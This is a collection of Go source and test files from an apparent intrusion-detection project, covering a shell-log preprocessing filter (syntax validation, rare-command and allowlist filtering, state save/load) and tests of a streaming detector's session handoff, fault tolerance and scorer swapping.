package preprocess

import (
	"encoding/json"
	"errors"
	"os"
	"testing"

	"clmids/internal/corpus"
)

func isUnparsable(err error) bool { return errors.Is(err, ErrUnparsable) }

func asRare(err error, target **RareCommandError) bool { return errors.As(err, target) }

// testdata/shell_golden.json was captured from the pre-modality
// implementation (hard-coded shell.Parse calls): FitProcess over the seeded
// 1200/600 corpus, recording every line's drop reason, canonical form,
// command units, and the fitted frequency table. The registry-backed shell
// modality must reproduce it byte for byte.

type goldenRec struct {
	Line     string   `json:"line"`
	Reason   string   `json:"reason"`
	Canon    string   `json:"canon,omitempty"`
	Commands []string `json:"commands,omitempty"`
}

type goldenFile struct {
	Records []goldenRec    `json:"records"`
	Freq    []CommandCount `json:"freq"`
}

func TestShellGoldenParity(t *testing.T) {
	raw, err := os.ReadFile("testdata/shell_golden.json")
	if err != nil {
		t.Fatal(err)
	}
	var want goldenFile
	if err := json.Unmarshal(raw, &want); err != nil {
		t.Fatal(err)
	}

	cfg := corpus.DefaultConfig()
	cfg.TrainLines, cfg.TestLines, cfg.Seed = 1200, 600, 42
	cfg.IntrusionRate = 0.2
	train, _, err := corpus.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	lines := train.Lines()
	if len(lines) != len(want.Records) {
		t.Fatalf("corpus drifted: %d lines, golden has %d", len(lines), len(want.Records))
	}

	p := New(DefaultConfig())
	res := p.FitProcess(lines)

	kept := 0
	for i, line := range lines {
		w := want.Records[i]
		if line != w.Line {
			t.Fatalf("line %d drifted:\n got  %q\n want %q", i, line, w.Line)
		}
		if got := res.Reasons[i].String(); got != w.Reason {
			t.Fatalf("line %d (%q) reason = %s, want %s", i, line, got, w.Reason)
		}
		if res.Reasons[i] != KeptLine {
			continue
		}
		rec := res.Kept[kept]
		kept++
		if rec.Line != w.Canon {
			t.Fatalf("line %d canonical form = %q, want %q", i, rec.Line, w.Canon)
		}
		if len(rec.Commands) != len(w.Commands) {
			t.Fatalf("line %d commands = %v, want %v", i, rec.Commands, w.Commands)
		}
		for j := range rec.Commands {
			if rec.Commands[j] != w.Commands[j] {
				t.Fatalf("line %d commands = %v, want %v", i, rec.Commands, w.Commands)
			}
		}
	}
	if kept != len(res.Kept) {
		t.Fatalf("consumed %d kept records, result has %d", kept, len(res.Kept))
	}

	freq := p.Frequencies()
	if len(freq) != len(want.Freq) {
		t.Fatalf("frequency table has %d entries, golden has %d", len(freq), len(want.Freq))
	}
	for i := range freq {
		if freq[i] != want.Freq[i] {
			t.Fatalf("frequency row %d = %+v, want %+v", i, freq[i], want.Freq[i])
		}
	}
}

// TestCheckLineTypedErrors covers the typed-error path that replaced silent
// drops: unparsable lines wrap ErrUnparsable, rare commands name the unit.
func TestCheckLineTypedErrors(t *testing.T) {
	p := New(DefaultConfig())
	p.Fit([]string{"ls -la /srv", "ls /data", "ls /tmp", "cat 'oops", "grep x y"})
	if p.Unparsable() != 1 {
		t.Errorf("Unparsable = %d, want 1", p.Unparsable())
	}
	if _, err := p.CheckLine("echo 'unterminated"); err == nil {
		t.Fatal("unparsable line accepted")
	} else if !isUnparsable(err) {
		t.Errorf("unparsable error = %v, want ErrUnparsable", err)
	}
	_, err := p.CheckLine("grep x y")
	var rare *RareCommandError
	if !asRare(err, &rare) {
		t.Fatalf("rare-command error = %v, want *RareCommandError", err)
	}
	if rare.Name != "grep" || rare.Count != 1 {
		t.Errorf("rare = %+v, want grep/1", rare)
	}
	if rec, err := p.CheckLine("ls   -la"); err != nil || rec.Line != "ls -la" {
		t.Errorf("kept line = %+v, %v", rec, err)
	}
}
