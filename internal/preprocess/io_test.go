package preprocess

import (
	"bytes"
	"strings"
	"testing"
)

func TestSaveLoadRoundTrip(t *testing.T) {
	p := New(Config{MinCommandFreq: 2})
	p.Fit([]string{"ls", "ls", "cat f", "cat g", "rareonce x"})
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	for _, line := range []string{"ls -la", "cat h", "rareonce y", "( bad"} {
		_, r1 := p.Check(line)
		_, r2 := loaded.Check(line)
		if r1 != r2 {
			t.Errorf("Check(%q) differs after load: %v vs %v", line, r1, r2)
		}
	}
	f1, f2 := p.Frequencies(), loaded.Frequencies()
	if len(f1) != len(f2) {
		t.Fatalf("frequency tables differ: %v vs %v", f1, f2)
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load(strings.NewReader("{}")); err == nil {
		t.Error("wrong format accepted")
	}
	if _, err := Load(strings.NewReader("nope")); err == nil {
		t.Error("non-JSON accepted")
	}
}
