// Package preprocess implements the Fig. 2 pre-processing stage: the
// modality's validator rejects syntactically invalid log records, and a
// command-frequency filter removes lines whose command units occur too
// rarely to be real (typos like "dcoker" or "chdmod"). Optionally, an
// explicit allowlist of known host commands can be supplied instead of (or
// in addition to) the frequency criterion, matching the two options the
// paper describes.
//
// The validator and normalizer are pluggable (internal/modality): the
// default Unix-shell modality parses with the recursive-descent shell
// parser, while PowerShell and network-flow modalities supply their own
// grammars. The filter logic itself is modality-agnostic.
package preprocess

import (
	"fmt"
	"sort"

	"clmids/internal/modality"
)

// ErrUnparsable is the modality sentinel for lines that fail validation,
// re-exported so preprocessing callers can errors.Is against this package.
var ErrUnparsable = modality.ErrUnparsable

// RareCommandError reports the command unit that failed the frequency
// filter.
type RareCommandError struct {
	// Name is the offending command unit.
	Name string
	// Count is how often it occurred in the fitted corpus.
	Count int
}

// Error describes which command was too rare and how often it occurred.
func (e *RareCommandError) Error() string {
	return fmt.Sprintf("preprocess: rare command %q (%d occurrences)", e.Name, e.Count)
}

// DropReason explains why a line was removed.
type DropReason int

// Drop reasons.
const (
	// KeptLine means the line passed all filters.
	KeptLine DropReason = iota
	// DropInvalid means the modality's validator rejected the line.
	DropInvalid
	// DropRareCommand means a command unit failed the frequency filter.
	DropRareCommand
)

// String renders the reason.
func (r DropReason) String() string {
	switch r {
	case KeptLine:
		return "kept"
	case DropInvalid:
		return "invalid-syntax"
	case DropRareCommand:
		return "rare-command"
	default:
		return fmt.Sprintf("DropReason(%d)", int(r))
	}
}

// Config controls the filter.
type Config struct {
	// MinCommandFreq keeps a command unit only if it occurs at least this
	// many times in the fitted corpus. Zero disables the absolute test.
	MinCommandFreq int
	// MinCommandFrac keeps a command unit only if its share of all command
	// occurrences is at least this fraction. Zero disables the test.
	MinCommandFrac float64
	// KnownCommands, when non-empty, always pass the frequency filter
	// (the paper's "exhaustively collecting all valid commands in the host
	// environment" alternative).
	KnownCommands []string
	// Modality names the registered log modality whose validator and
	// normalizer this filter runs; empty means the default Unix-shell
	// modality (and keeps pre-modality saved states loading unchanged).
	Modality string `json:",omitempty"`
}

// DefaultConfig uses a small absolute threshold, appropriate for corpora of
// thousands of lines; production deployments would scale it with volume.
func DefaultConfig() Config {
	return Config{MinCommandFreq: 3}
}

// Record is one line that survived pre-processing.
type Record struct {
	// Index is the position of the line in the original input.
	Index int
	// Line is the canonical (whitespace-normalized) form.
	Line string
	// Commands are the distinct command units on the line.
	Commands []string
}

// CommandCount is one row of the Fig. 2 command-occurrence table.
type CommandCount struct {
	Name  string
	Count int
}

// Result summarizes one Process call.
type Result struct {
	Kept    []Record
	Reasons []DropReason // parallel to the input lines
	// DroppedInvalid and DroppedRare count the two removal classes.
	DroppedInvalid int
	DroppedRare    int
}

// Preprocessor filters command lines. Fit must be called before Process
// unless KnownCommands is provided and MinCommandFreq/MinCommandFrac are 0.
type Preprocessor struct {
	cfg        Config
	mod        modality.Modality
	freq       map[string]int
	total      int
	allowed    map[string]bool
	fitted     bool
	unparsable int
}

// New creates a Preprocessor. The configured modality must be registered;
// every user-facing entry point (flags, artifact loads) validates the name
// first, so an unknown modality here is a programming error and panics.
func New(cfg Config) *Preprocessor {
	allowed := make(map[string]bool, len(cfg.KnownCommands))
	for _, c := range cfg.KnownCommands {
		allowed[c] = true
	}
	return &Preprocessor{
		cfg:     cfg,
		mod:     modality.MustGet(cfg.Modality),
		freq:    make(map[string]int),
		allowed: allowed,
	}
}

// Modality returns the canonical name of the modality this filter runs.
func (p *Preprocessor) Modality() string { return p.mod.Name() }

// Fit counts command-unit occurrences over the corpus (invalid lines are
// skipped: they never contribute frequency mass, but they are tallied in
// Unparsable). Fit may be called several times to accumulate counts over
// streamed chunks.
func (p *Preprocessor) Fit(lines []string) {
	for _, line := range lines {
		rec, err := p.mod.Parse(line)
		if err != nil {
			p.unparsable++
			continue
		}
		for _, name := range rec.Occurrences {
			p.freq[name]++
			p.total++
		}
	}
	p.fitted = true
}

// Unparsable returns the number of lines the validator rejected during Fit,
// the corpus build's data-quality counter.
func (p *Preprocessor) Unparsable() int { return p.unparsable }

// Frequencies returns the Fig. 2 occurrence table, most frequent first
// (ties broken alphabetically for determinism).
func (p *Preprocessor) Frequencies() []CommandCount {
	out := make([]CommandCount, 0, len(p.freq))
	for name, c := range p.freq {
		out = append(out, CommandCount{Name: name, Count: c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// commandOK applies the allowlist and frequency criteria to one name.
func (p *Preprocessor) commandOK(name string) bool {
	if p.allowed[name] {
		return true
	}
	if len(p.allowed) > 0 && p.cfg.MinCommandFreq == 0 && p.cfg.MinCommandFrac == 0 {
		// Pure allowlist mode: anything not listed is rejected.
		return false
	}
	c := p.freq[name]
	if p.cfg.MinCommandFreq > 0 && c < p.cfg.MinCommandFreq {
		return false
	}
	if p.cfg.MinCommandFrac > 0 && p.total > 0 &&
		float64(c)/float64(p.total) < p.cfg.MinCommandFrac {
		return false
	}
	return true
}

// CheckLine classifies a single line, returning a typed error instead of a
// silent drop: validation failures wrap modality.ErrUnparsable (with the
// grammar's detail preserved), frequency-filter failures return a
// *RareCommandError naming the offending unit.
func (p *Preprocessor) CheckLine(line string) (Record, error) {
	rec, err := p.mod.Parse(line)
	if err != nil {
		return Record{}, err
	}
	for _, n := range rec.Commands {
		if !p.commandOK(n) {
			return Record{}, &RareCommandError{Name: n, Count: p.freq[n]}
		}
	}
	return Record{Line: rec.Line, Commands: rec.Commands}, nil
}

// Check classifies a single line without mutating state.
func (p *Preprocessor) Check(line string) (Record, DropReason) {
	rec, err := p.CheckLine(line)
	switch err.(type) {
	case nil:
		return rec, KeptLine
	case *RareCommandError:
		return Record{}, DropRareCommand
	default:
		return Record{}, DropInvalid
	}
}

// Process filters a corpus, returning kept records and per-line reasons.
func (p *Preprocessor) Process(lines []string) Result {
	res := Result{
		Kept:    make([]Record, 0, len(lines)),
		Reasons: make([]DropReason, len(lines)),
	}
	for i, line := range lines {
		rec, reason := p.Check(line)
		res.Reasons[i] = reason
		switch reason {
		case KeptLine:
			rec.Index = i
			res.Kept = append(res.Kept, rec)
		case DropInvalid:
			res.DroppedInvalid++
		case DropRareCommand:
			res.DroppedRare++
		}
	}
	return res
}

// FitProcess is the common one-shot path: fit frequencies on the corpus and
// immediately filter it.
func (p *Preprocessor) FitProcess(lines []string) Result {
	p.Fit(lines)
	return p.Process(lines)
}
