package preprocess

import (
	"strings"
	"testing"

	"clmids/internal/corpus"
)

func TestFitProcessBasics(t *testing.T) {
	lines := []string{
		"ls -la /tmp", "ls /srv", "ls", "ls -lh", // frequent
		"cat a.txt", "cat b.txt", "cat c.txt",
		"dcoker ps -a",        // typo: occurs once
		"/*/*/* -> /*/*/* ->", // invalid
		"echo 'unterminated",  // invalid
	}
	p := New(Config{MinCommandFreq: 2})
	res := p.FitProcess(lines)
	if res.DroppedInvalid != 2 {
		t.Errorf("DroppedInvalid = %d, want 2", res.DroppedInvalid)
	}
	if res.DroppedRare != 1 {
		t.Errorf("DroppedRare = %d, want 1", res.DroppedRare)
	}
	if len(res.Kept) != 7 {
		t.Errorf("Kept = %d, want 7", len(res.Kept))
	}
	for _, rec := range res.Kept {
		if strings.HasPrefix(rec.Line, "dcoker") {
			t.Error("typo line survived the frequency filter")
		}
	}
}

func TestReasonsParallelInput(t *testing.T) {
	lines := []string{"ls", "ls", "( broken", "zzzz once"}
	p := New(Config{MinCommandFreq: 2})
	res := p.FitProcess(lines)
	want := []DropReason{KeptLine, KeptLine, DropInvalid, DropRareCommand}
	for i, r := range res.Reasons {
		if r != want[i] {
			t.Errorf("reason[%d] = %v, want %v", i, r, want[i])
		}
	}
	if KeptLine.String() != "kept" || DropInvalid.String() != "invalid-syntax" ||
		DropRareCommand.String() != "rare-command" {
		t.Error("DropReason.String wrong")
	}
}

func TestAllowlistMode(t *testing.T) {
	// Pure allowlist: only listed commands pass, regardless of frequency.
	p := New(Config{KnownCommands: []string{"ls", "cat"}})
	res := p.Process([]string{"ls -la", "cat f", "vim f", "ls | cat"})
	if len(res.Kept) != 3 {
		t.Fatalf("kept %d lines, want 3", len(res.Kept))
	}
	for _, rec := range res.Kept {
		if strings.HasPrefix(rec.Line, "vim") {
			t.Error("non-allowlisted command kept")
		}
	}
}

func TestAllowlistPlusFrequency(t *testing.T) {
	// Allowlisted names bypass the frequency test; others still need it.
	p := New(Config{MinCommandFreq: 2, KnownCommands: []string{"rareallowed"}})
	p.Fit([]string{"ls", "ls", "rareallowed x", "rareonce y"})
	if _, reason := p.Check("rareallowed x"); reason != KeptLine {
		t.Error("allowlisted rare command dropped")
	}
	if _, reason := p.Check("rareonce y"); reason != DropRareCommand {
		t.Error("rare command kept")
	}
	if _, reason := p.Check("ls -la"); reason != KeptLine {
		t.Error("frequent command dropped")
	}
}

func TestMinCommandFrac(t *testing.T) {
	lines := make([]string, 0, 101)
	for i := 0; i < 100; i++ {
		lines = append(lines, "ls")
	}
	lines = append(lines, "seldom x")
	p := New(Config{MinCommandFrac: 0.05})
	res := p.FitProcess(lines)
	if res.DroppedRare != 1 {
		t.Fatalf("DroppedRare = %d, want 1", res.DroppedRare)
	}
}

func TestFrequenciesTable(t *testing.T) {
	p := New(DefaultConfig())
	p.Fit([]string{"ls", "ls", "cat f | grep x", "grep y f", "grep z f"})
	freqs := p.Frequencies()
	if len(freqs) != 3 {
		t.Fatalf("frequencies = %v", freqs)
	}
	if freqs[0].Name != "grep" || freqs[0].Count != 3 {
		t.Errorf("top command = %+v, want grep:3", freqs[0])
	}
	if freqs[1].Name != "ls" || freqs[2].Name != "cat" {
		t.Errorf("order = %v", freqs)
	}
}

func TestPipelineCommandsAllChecked(t *testing.T) {
	// A pipeline containing one rare command must be dropped even if the
	// first command is frequent.
	p := New(Config{MinCommandFreq: 2})
	p.Fit([]string{"ls", "ls", "ls | weirdcmd"})
	if _, reason := p.Check("ls | weirdcmd"); reason != DropRareCommand {
		t.Fatalf("pipeline with rare command: reason = %v", reason)
	}
}

func TestOnGeneratedCorpus(t *testing.T) {
	cfg := corpus.DefaultConfig()
	cfg.TrainLines = 3000
	cfg.TestLines = 500
	train, _, err := corpus.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// The threshold scales with corpus size: at 3000 lines a typo form can
	// repeat a handful of times, so use a slightly higher cutoff than the
	// package default.
	p := New(Config{MinCommandFreq: 6})
	res := p.FitProcess(train.Lines())

	// Every garbage line must be dropped as invalid.
	for i, s := range train.Samples {
		if s.Family == "garbage" && res.Reasons[i] != DropInvalid {
			t.Errorf("garbage line %q classified %v", s.Line, res.Reasons[i])
		}
	}
	// Typo lines should overwhelmingly be dropped as rare; allow the odd
	// collision when a typo form repeats.
	typos, dropped := 0, 0
	for i, s := range train.Samples {
		if s.Family != "typo" {
			continue
		}
		typos++
		if res.Reasons[i] == DropRareCommand {
			dropped++
		}
	}
	if typos == 0 {
		t.Fatal("corpus produced no typo lines")
	}
	if float64(dropped)/float64(typos) < 0.7 {
		t.Errorf("only %d/%d typo lines dropped", dropped, typos)
	}
	// Routine lines must overwhelmingly survive.
	routine, kept := 0, 0
	for i, s := range train.Samples {
		if s.Family != "routine" {
			continue
		}
		routine++
		if res.Reasons[i] == KeptLine {
			kept++
		}
	}
	if float64(kept)/float64(routine) < 0.95 {
		t.Errorf("only %d/%d routine lines kept", kept, routine)
	}
}

func BenchmarkProcess(b *testing.B) {
	cfg := corpus.DefaultConfig()
	cfg.TrainLines = 2000
	cfg.TestLines = 100
	train, _, err := corpus.Generate(cfg)
	if err != nil {
		b.Fatal(err)
	}
	lines := train.Lines()
	p := New(DefaultConfig())
	p.Fit(lines)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p.Process(lines)
	}
}
