package preprocess

import (
	"encoding/json"
	"fmt"
	"io"
)

// state is the serialized form of a fitted Preprocessor.
type state struct {
	Format string         `json:"format"`
	Config Config         `json:"config"`
	Freq   map[string]int `json:"freq"`
	Total  int            `json:"total"`
}

const stateFormat = "clmids-preprocess v1"

// Save writes the fitted filter state as JSON.
func (p *Preprocessor) Save(w io.Writer) error {
	st := state{Format: stateFormat, Config: p.cfg, Freq: p.freq, Total: p.total}
	enc := json.NewEncoder(w)
	enc.SetIndent("", " ")
	if err := enc.Encode(&st); err != nil {
		return fmt.Errorf("preprocess: encoding state: %w", err)
	}
	return nil
}

// Load restores a Preprocessor written by Save.
func Load(r io.Reader) (*Preprocessor, error) {
	var st state
	if err := json.NewDecoder(r).Decode(&st); err != nil {
		return nil, fmt.Errorf("preprocess: decoding state: %w", err)
	}
	if st.Format != stateFormat {
		return nil, fmt.Errorf("preprocess: unknown state format %q", st.Format)
	}
	p := New(st.Config)
	if st.Freq != nil {
		p.freq = st.Freq
	}
	p.total = st.Total
	p.fitted = true
	return p, nil
}
