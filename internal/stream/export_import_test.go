package stream

import (
	"bytes"
	"errors"
	"reflect"
	"testing"
)

// TestRestoreSessionsMismatchTypedErrors: every incompatibility —
// session-shape config drift, modality drift — surfaces as the typed
// ErrCheckpointIncompatible (distinct from ErrCheckpointCorrupt), so
// operators and the fleet router can branch on errors.Is instead of
// string-matching.
func TestRestoreSessionsMismatchTypedErrors(t *testing.T) {
	cfg := DefaultConfig()
	det := NewDetector(&stubScorer{}, cfg)
	det.SetModality("shell")
	if _, err := det.Process([]Event{ev("u", 1, "ls")}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := det.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}
	good := buf.Bytes()

	badCfg := cfg
	badCfg.IdleTimeout = cfg.IdleTimeout + 1
	mismatched := NewDetector(&stubScorer{}, badCfg)
	mismatched.SetModality("shell")
	err := mismatched.RestoreSessions(bytes.NewReader(good))
	if !errors.Is(err, ErrCheckpointIncompatible) {
		t.Fatalf("config mismatch: got %v, want ErrCheckpointIncompatible", err)
	}
	if errors.Is(err, ErrCheckpointCorrupt) {
		t.Fatalf("config mismatch misclassified as corruption: %v", err)
	}

	wrongModality := NewDetector(&stubScorer{}, cfg)
	wrongModality.SetModality("powershell")
	err = wrongModality.RestoreSessions(bytes.NewReader(good))
	if !errors.Is(err, ErrCheckpointIncompatible) {
		t.Fatalf("modality mismatch: got %v, want ErrCheckpointIncompatible", err)
	}
	if st := wrongModality.Stats(); st.ActiveSessions != 0 {
		t.Fatalf("rejected restore mutated the detector: %+v", st)
	}

	// Same checks through ImportSessions — the live-merge path the fleet
	// router drives must refuse with the same typed error.
	if _, err := mismatched.ImportSessions(bytes.NewReader(good)); !errors.Is(err, ErrCheckpointIncompatible) {
		t.Fatalf("import config mismatch: got %v, want ErrCheckpointIncompatible", err)
	}
	if _, err := wrongModality.ImportSessions(bytes.NewReader(good)); !errors.Is(err, ErrCheckpointIncompatible) {
		t.Fatalf("import modality mismatch: got %v, want ErrCheckpointIncompatible", err)
	}
}

// TestExportImportSelectedUsers: ExportSessions carries exactly the named
// users, and importing overwrites only them — other sessions on the target
// detector are untouched.
func TestExportImportSelectedUsers(t *testing.T) {
	cfg := shardedTestConfig()
	src := NewDetector(&hashScorer{}, cfg)
	if _, err := src.Process([]Event{
		ev("alice", 10, "ls"), ev("bob", 11, "pwd"), ev("carol", 12, "id"),
	}); err != nil {
		t.Fatal(err)
	}

	var ckpt bytes.Buffer
	if err := src.ExportSessions(&ckpt, []string{"alice", "bob"}); err != nil {
		t.Fatal(err)
	}

	dst := NewDetector(&hashScorer{}, cfg)
	if _, err := dst.Process([]Event{
		ev("bob", 5, "old-bob-state"), ev("dave", 6, "make"),
	}); err != nil {
		t.Fatal(err)
	}
	n, err := dst.ImportSessions(bytes.NewReader(ckpt.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("imported %d users, want 2", n)
	}
	st := dst.Stats()
	if st.ActiveSessions != 3 { // alice, bob (overwritten), dave
		t.Fatalf("want 3 active sessions after import, got %+v", st)
	}

	// bob's window must now be the source's, not the stale local one: the
	// next verdicts for alice and bob match the source detector's exactly.
	next := []Event{ev("alice", 20, "whoami"), ev("bob", 21, "uname -a")}
	want, err := src.Process(next)
	if err != nil {
		t.Fatal(err)
	}
	got, err := dst.Process(next)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("imported users diverge from source:\n got %+v\nwant %+v", got, want)
	}
}

// TestImportEmptyWindowDeletes: a checkpoint record with no window entries
// is a delete marker — the fleet router uses it to scrub speculative hedge
// imports — and removes the session outright instead of installing an
// empty one.
func TestImportEmptyWindowDeletes(t *testing.T) {
	cfg := DefaultConfig()
	det := NewDetector(&stubScorer{}, cfg)
	det.SetModality("shell")
	if _, err := det.Process([]Event{ev("ghost", 1, "ls"), ev("keeper", 2, "pwd")}); err != nil {
		t.Fatal(err)
	}
	if st := det.Stats(); st.ActiveSessions != 2 {
		t.Fatalf("setup: %+v", st)
	}

	var buf bytes.Buffer
	if err := WriteSessionsCheckpoint(&buf, cfg, "shell", []SessionWindow{{User: "ghost"}}, det.HighWater()); err != nil {
		t.Fatal(err)
	}
	if _, err := det.ImportSessions(bytes.NewReader(buf.Bytes())); err != nil {
		t.Fatal(err)
	}
	if st := det.Stats(); st.ActiveSessions != 1 {
		t.Fatalf("delete marker did not remove the session: %+v", st)
	}
}

// TestExportImportPreservesChainAlarm is the fleet handoff drill at the
// detector level: step 1 of a chain lands on one detector, the user's
// session is exported and imported into a second detector (the failover
// target), and step 2 there trips exactly the alarm an uninterrupted run
// trips.
func TestExportImportPreservesChainAlarm(t *testing.T) {
	cfg := chainConfig()
	step1 := ev("mallory", 100, "step1: stage payload")
	step2 := ev("mallory", 110, "step2: exfiltrate")

	ref := NewDetector(chainScorer{}, cfg)
	if _, err := ref.Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	want, err := ref.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !want[0].SessionAlert {
		t.Fatal("reference run did not trip the chain alarm; test scorer broken")
	}

	primary := NewDetector(chainScorer{}, cfg)
	if _, err := primary.Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	var handoff bytes.Buffer
	if err := primary.ExportSessions(&handoff, []string{"mallory"}); err != nil {
		t.Fatal(err)
	}

	failover := NewDetector(chainScorer{}, cfg)
	if _, err := failover.Process([]Event{ev("bystander", 105, "make test")}); err != nil {
		t.Fatal(err)
	}
	if _, err := failover.ImportSessions(&handoff); err != nil {
		t.Fatal(err)
	}
	got, err := failover.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("handoff diverged from uninterrupted run:\n got %+v\nwant %+v", got, want)
	}
}
