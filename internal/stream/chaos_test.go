package stream

// The chaos soak: seeded fault injectors (scorer errors, panics, a poison
// line, latency spikes, queue stalls) drive the full sharded service while
// concurrent producers keep submitting. The test asserts the three
// resilience invariants end to end: no accepted event is lost, nothing
// wedges (the test finishes), and once faults clear the service scores
// byte-identically to a never-faulted reference. CI runs this under -race.

import (
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clmids/internal/faults"
	"clmids/internal/tuning"
)

func TestChaosSoak(t *testing.T) {
	const (
		shards      = 4
		producers   = 6
		perProducer = 150
	)
	cfg := shardedTestConfig()
	cfg.QuarantineScore = 0.5

	ctl := faults.NewControl()
	gate := &faults.Gate{}
	base := gate.Wrap(&faults.Scorer{
		Inner: &hashScorer{}, Ctl: ctl, Seed: 42,
		ErrEvery: 7, PanicEvery: 31, PanicSubstring: "POISON",
		LatencyEvery: 29, Latency: time.Millisecond,
	})
	replicas := make([]tuning.Scorer, shards)
	replicas[0] = base
	for i := 1; i < shards; i++ {
		replicas[i] = base.(tuning.Replicable).Replicate()
	}
	sd, err := NewShardedDetector(replicas, cfg)
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sd, ServiceConfig{QueueRequests: 8, BatchEvents: 64})
	defer svc.Close()

	// Phase A — soak under fire. Each producer owns its users (one user per
	// Submit, so a failed batch is single-shard and rolls back completely:
	// retries never double-ingest). Submits that fail with an injected
	// error are retried until accepted; everything accepted must come back
	// with exactly one verdict per event.
	var delivered atomic.Int64
	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				user := fmt.Sprintf("chaos-%d-%d", p, i%3)
				line := fmt.Sprintf("cmd %d from %d", i, p)
				if p == 0 && i%40 == 7 {
					line = "run POISON payload" // reproducible panic → quarantine
				}
				evts := []Event{{User: user, Time: int64(1000 + i), Line: line}}
				for {
					vs, err := svc.Submit(evts)
					if err == nil {
						delivered.Add(int64(len(vs)))
						break
					}
					if !errors.Is(err, faults.ErrInjected) {
						t.Errorf("producer %d: non-injected failure: %v", p, err)
						return
					}
				}
			}
		}(p)
	}

	// Queue-stall injection: wedge every scorer a few times mid-soak; the
	// producers must ride it out through backpressure, not lose events.
	stallDone := make(chan struct{})
	go func() {
		defer close(stallDone)
		for i := 0; i < 3; i++ {
			gate.Hold()
			time.Sleep(5 * time.Millisecond)
			gate.Release()
			time.Sleep(5 * time.Millisecond)
		}
	}()

	soakDone := make(chan struct{})
	go func() { wg.Wait(); close(soakDone) }()
	select {
	case <-soakDone:
	case <-time.After(2 * time.Minute):
		t.Fatal("soak wedged: producers still blocked after 2m")
	}
	<-stallDone
	if t.Failed() {
		return
	}

	if got, want := delivered.Load(), int64(producers*perProducer); got != want {
		t.Fatalf("delivered %d verdicts, want %d — events lost", got, want)
	}
	st := svc.Stats()
	if st.ScorerPanics == 0 || st.QuarantinedInputs == 0 || ctl.Injected() == 0 {
		t.Fatalf("faults did not bite (panics %d, quarantined %d, injected %d) — soak proves nothing",
			st.ScorerPanics, st.QuarantinedInputs, ctl.Injected())
	}

	// Phase B — faults clear; fresh traffic must score byte-identically to
	// a reference stack that never saw a fault.
	ctl.Clear()
	refReplicas := make([]tuning.Scorer, shards)
	for i := range refReplicas {
		refReplicas[i] = &hashScorer{}
	}
	ref, err := NewShardedDetector(refReplicas, cfg)
	if err != nil {
		t.Fatal(err)
	}
	for chunk := 0; chunk < 10; chunk++ {
		evts := make([]Event, 0, 20)
		for i := 0; i < 20; i++ {
			evts = append(evts, Event{
				User: fmt.Sprintf("fresh-%d", (chunk+i)%5),
				Time: int64(5000 + chunk*20 + i),
				Line: fmt.Sprintf("post-fault cmd %d.%d", chunk, i),
			})
		}
		got, err := svc.Submit(evts)
		if err != nil {
			t.Fatalf("post-fault submit failed: %v", err)
		}
		want, err := ref.Process(evts)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("chunk %d: post-fault verdicts diverge from clean run", chunk)
		}
		gj, _ := json.Marshal(got)
		wj, _ := json.Marshal(want)
		if string(gj) != string(wj) {
			t.Fatalf("chunk %d: serialized verdicts not byte-identical", chunk)
		}
	}
}
