package stream

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"clmids/internal/corpus"
	"clmids/internal/tuning"
)

// genScorer scores every line with its generation number — a swap-visible
// constant — so a mixed batch is detectable as two distinct values in one
// Process result. Replicable: replicas share the generation (like real
// replicas share the frozen head).
type genScorer struct {
	gen float64
}

func (g *genScorer) Score(lines []string) ([]float64, error) {
	out := make([]float64, len(lines))
	for i := range out {
		out[i] = g.gen
	}
	return out, nil
}

func (g *genScorer) Replicate() tuning.Scorer { return &genScorer{gen: g.gen} }

// CacheStats makes the stub a CacheStatser so Service.Stats exercises its
// scorer probe — the read that must not race a concurrent SwapScorer.
func (g *genScorer) CacheStats() tuning.CacheStats { return tuning.CacheStats{} }

var (
	_ tuning.Replicable   = (*genScorer)(nil)
	_ tuning.CacheStatser = (*genScorer)(nil)
)

func TestSwapScorerVersionPropagation(t *testing.T) {
	scorers := make([]tuning.Scorer, 4)
	for i := range scorers {
		scorers[i] = &genScorer{gen: 1}
	}
	sd, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if v := sd.ScorerVersion(); v != "" {
		t.Fatalf("fresh detector has version %q", v)
	}
	sd.SetScorerVersion("v1")
	for i := 0; i < sd.Shards(); i++ {
		if v := sd.Shard(i).ScorerVersion(); v != "v1" {
			t.Fatalf("shard %d version %q after SetScorerVersion", i, v)
		}
	}
	if err := sd.SwapScorer(&genScorer{gen: 2}, "v2"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < sd.Shards(); i++ {
		if v := sd.Shard(i).Stats().ScorerVersion; v != "v2" {
			t.Fatalf("shard %d stats version %q after SwapScorer", i, v)
		}
	}
	if got := sd.Stats().ScorerVersion; got != "v2" {
		t.Fatalf("aggregate stats version %q", got)
	}
	// The swap installed the new generation on every shard.
	vs, err := sd.Process([]Event{ev("a", 1, "x"), ev("b", 1, "y"), ev("c", 1, "z"), ev("d", 1, "w")})
	if err != nil {
		t.Fatal(err)
	}
